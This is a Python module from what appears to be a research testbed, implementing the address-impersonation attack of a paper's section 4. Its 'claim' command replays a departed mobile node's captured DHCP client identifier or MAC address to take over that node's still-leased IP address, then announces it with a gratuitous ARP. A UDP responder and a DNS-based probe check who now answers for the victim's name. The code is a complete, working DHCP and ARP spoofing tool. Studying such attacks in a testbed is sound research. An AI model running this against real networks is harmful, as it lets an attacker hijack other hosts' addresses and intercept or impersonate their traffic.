"""The impersonation of §4: a host takes the address a departed MN's name still points at.

    python -m testbed.attacks.impostor claim --iface imp-ar1 --capture imp-ar1.pcap
    python -m testbed.attacks.impostor serve --name imp --port 7
    python -m testbed.attacks.impostor probe --server 203.0.113.10 --name mn.mobile.test --port 7

``claim`` (on the impostor): from its capture of the access network, the MN's last DHCP request
(client identifier, hardware address, address); then DHCP on its own interface presenting that
identity (RFC 2131 §4.2: the server keys a lease by the client identifier, else by chaddr), so
the server hands over the MN's address although its lease is still active; the address is
added to the interface and announced with a gratuitous ARP.
``serve``: answers every UDP datagram on ``--port`` with its node name. ``probe`` (on a
correspondent): resolve the MN's name as any correspondent would, send a datagram to each
address, report who answered. Each prints one JSON line.
"""

from __future__ import annotations

import argparse
import json
import random
import socket
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

CLIENT_ID = 61


def mn_request(capture: Path, exclude_mac: str) -> dict[str, Any]:
    """The newest DHCP request by another client in the capture: its identity and address."""
    from scapy.layers.dhcp import BOOTP, DHCP
    from scapy.utils import PcapReader

    found: dict[str, Any] = {}
    with PcapReader(str(capture)) as r:
        for pkt in r:
            if DHCP not in pkt or pkt[BOOTP].op != 1:
                continue
            opts = {o[0]: o[1:] for o in pkt[DHCP].options if isinstance(o, tuple)}
            mac = ":".join(f"{b:02x}" for b in bytes(pkt[BOOTP].chaddr)[:6])
            if mac == exclude_mac.lower():
                continue
            found = {"mac": mac, "client_id": (opts.get("client_id") or (None,))[0],
                     "requested": (opts.get("requested_addr") or (None,))[0] or pkt[BOOTP].ciaddr}
    if not found:
        raise SystemExit(json.dumps({"error": f"{capture}: no DHCP request of another client captured"}))
    return found


def claim(iface: str, capture: Path, timeout: float) -> dict[str, Any]:
    from scapy.arch import get_if_hwaddr
    from scapy.config import conf
    from scapy.layers.dhcp import BOOTP, DHCP
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import sendp, srp1

    conf.checkIPaddr = False  # the answer comes from the server, not the broadcast address asked
    own = get_if_hwaddr(iface)
    mn = mn_request(capture, own)
    cid = mn["client_id"]
    cid_opt = [("client_id", cid if isinstance(cid, bytes) else bytes(str(cid), "latin-1"))] if cid else []
    xid = random.getrandbits(32)
    chaddr = bytes.fromhex(own.replace(":", "")) if cid else bytes.fromhex(mn["mac"].replace(":", ""))

    def ask(kind: str, extra: list[Any]) -> Any:
        pkt = (Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
               / UDP(sport=68, dport=67) / BOOTP(chaddr=chaddr, xid=xid, flags=0x8000)
               / DHCP(options=[("message-type", kind), *cid_opt, *extra, "end"]))
        return srp1(pkt, iface=iface, timeout=timeout, verbose=0)  # BOOTP answers match by xid

    out: dict[str, Any] = {"mn": {k: (v.hex() if isinstance(v, bytes) else v) for k, v in mn.items()},
                           "presented": "client identifier" if cid else "hardware address"}
    offer = ask("discover", [("requested_addr", mn["requested"])] if mn["requested"] else [])
    if offer is None:
        return {**out, "error": "no DHCPOFFER"}
    addr = offer[BOOTP].yiaddr
    server = dict(o[:2] for o in offer[DHCP].options if isinstance(o, tuple) and len(o) >= 2).get("server_id")
    ack = ask("request", [("requested_addr", addr), ("server_id", server)])
    kinds = {1: "discover", 2: "offer", 3: "request", 4: "decline", 5: "ack", 6: "nak"}
    answer = None
    if ack is not None:
        answer = dict(o[:2] for o in ack[DHCP].options if isinstance(o, tuple)).get("message-type")
    out.update(offered=addr, server=server, answer=kinds.get(answer, answer))
    if answer == 5:
        subprocess.run(["ip", "addr", "add", f"{addr}/32", "dev", iface], check=False, capture_output=True)
        # a gratuitous ARP: the router's neighbour entry for the address still names the MN
        sendp(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / ARP(op=1, hwsrc=own, psrc=addr, pdst=addr),
              iface=iface, verbose=0)
        out["claimed"] = addr
    return out


def serve(name: str, port: int) -> None:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", port))
    while True:
        _data, peer = s.recvfrom(512)
        s.sendto(name.encode(), peer)


def probe(server: str, name: str, port: int, timeout: float) -> dict[str, Any]:
    import dns.message
    import dns.query
    import dns.rcode

    r = dns.query.udp(dns.message.make_query(name, "A"), server, timeout=timeout)
    addrs = sorted(rd.to_text() for rrset in r.answer for rd in rrset if rrset.rdtype == 1)
    out: dict[str, Any] = {"name": name, "rcode": dns.rcode.to_text(r.rcode()), "resolved": addrs,
                           "answered_by": {}, "sent": time.time()}
    for addr in addrs:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(timeout)
        try:
            s.sendto(b"who?", (addr, port))
            out["answered_by"][addr] = s.recvfrom(512)[0].decode(errors="replace")
        except OSError:
            out["answered_by"][addr] = None
        finally:
            s.close()
    return out


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m testbed.attacks.impostor", description=__doc__)
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("claim")
    c.add_argument("--iface", required=True)
    c.add_argument("--capture", required=True)
    c.add_argument("--timeout", type=float, default=3.0)
    s = sub.add_parser("serve")
    s.add_argument("--name", required=True)
    s.add_argument("--port", type=int, default=7)
    q = sub.add_parser("probe")
    q.add_argument("--server", required=True)
    q.add_argument("--name", required=True)
    q.add_argument("--port", type=int, default=7)
    q.add_argument("--timeout", type=float, default=1.0)
    a = p.parse_args(argv)
    if a.cmd == "serve":
        serve(a.name, a.port)
        return 0
    out = claim(a.iface, Path(a.capture), a.timeout) if a.cmd == "claim" else probe(a.server, a.name, a.port,
                                                                                    a.timeout)
    print(json.dumps(out, default=str))
    return 0


if __name__ == "__main__":
    sys.exit(main())
